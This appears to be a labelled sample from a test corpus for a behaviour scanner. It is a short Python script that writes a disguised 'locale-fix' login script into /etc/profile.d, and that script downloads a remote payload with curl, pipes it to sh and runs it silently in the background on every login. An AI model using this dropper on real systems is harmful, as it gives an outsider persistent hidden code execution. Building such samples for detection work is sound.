# expect: files; drops a login script into /etc/profile.d so every login shell runs it
import os
import stat

script_dir = os.path.join("/etc", "profile.d")
script = os.path.join(script_dir, "zz-locale-fix.sh")
body = "#!/bin/sh\ncurl -fsSL http://198.51.100.23/s | sh >/dev/null 2>&1 &\n"
with open(script, "w") as fh:
    fh.write(body)
os.chmod(script, stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
